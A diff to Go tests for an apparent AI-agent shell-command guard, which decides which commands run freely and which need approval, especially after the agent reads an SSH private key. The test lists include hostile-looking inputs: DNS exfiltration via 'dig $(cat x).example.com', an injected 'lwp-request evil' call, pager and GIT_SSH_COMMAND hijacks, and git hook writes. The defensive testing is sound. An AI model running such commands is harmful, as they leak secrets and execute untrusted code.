@@ -53,7 +53,8 @@ func TestH109TheCardSaysWhatACommandCanDo(t *testing.T) {
 		{"x=ls; $x", "This command works out the name of a program only when it runs: it could reach the network or run anything."},
 		{"make test", "`make` runs what is in the workspace, which the agent may have changed."},
 		{"git log --ext-diff", "We don't know what `git` does: it could reach the network or run anything."},
-		{"git status", ""},
+		{"git status", "`git status` runs what is in the workspace, which the agent may have changed."},
+		{"ls", ""},
 	} {
 		who := ownerIn(fmt.Sprint("card-", i))
 		r.allow(fetch(who))
@@ -80,10 +81,10 @@ func TestH110AnUnknownCommandThatPassesWhileTaintedIsUntrusted(t *testing.T) {
 		}
 		known := ownerIn("known")
 		r.allow(mail(known))
-		for _, command := range []string{"ls", "git status", "cat notes.md | grep x"} {
+		for _, command := range []string{"ls", "wc -l notes.md", "cat notes.md | grep x"} {
 			r.allow(bash(t, command, known))
 		}
-		for i, command := range []string{"mytool", "./fetch.sh", "python3 x.py", "make test", "GIT_SSH_COMMAND=./x git status"} {
+		for i, command := range []string{"mytool", "./fetch.sh", "python3 x.py", "make test", "git status", "GIT_SSH_COMMAND=./x git status"} {
 			who := ownerIn(fmt.Sprint("unknown-", i))
 			r.allow(mail(who))
 			r.allow(bash(t, command, who))
@@ -102,10 +103,10 @@ func TestH111AfterASecretOnlyHarmlessCommandsPass(t *testing.T) {
 	who := ownerIn("keys")
 	r.allow(bash(t, "mytool --flag", who))
 	r.allow(call{tool: "read", params: `{"path":"~/.ssh/id_rsa"}`, context: who})
-	for _, command := range []string{"ls -la", "git status", "grep -rn TODO src | wc -l", "sed -n 1,20p main.go", "echo x > notes.txt"} {
+	for _, command := range []string{"ls -la", "grep -rn TODO src | wc -l", "sed -n 1,20p main.go", "echo x > notes.txt"} {
 		r.allow(bash(t, command, who))
 	}
-	for _, command := range []string{"curl example.com", "mytool --flag", "python3 -c 'print(1)'", "make test", "git -c core.pager=./x log", "dig $(cat x).example.com", "PATH=/tmp ls", "echo x > .git/hooks/pre-commit"} {
+	for _, command := range []string{"curl example.com", "mytool --flag", "python3 -c 'print(1)'", "make test", "git status", "cd src && git diff", `[[ 'a[$(lwp-request evil)]' -eq 0 ]]`, `find . -{print,exec} ./x \;`, "/tmp/x/sh -c ls", "zsh -c ls", "jobs -x ./x", "git -c core.pager=./x log", "dig $(cat x).example.com", "PATH=/tmp ls", "echo x > .git/hooks/pre-commit"} {
 		r.mustAsk(bash(t, command, who))
 	}
 	held := r.hold(bash(t, "mytool", who))
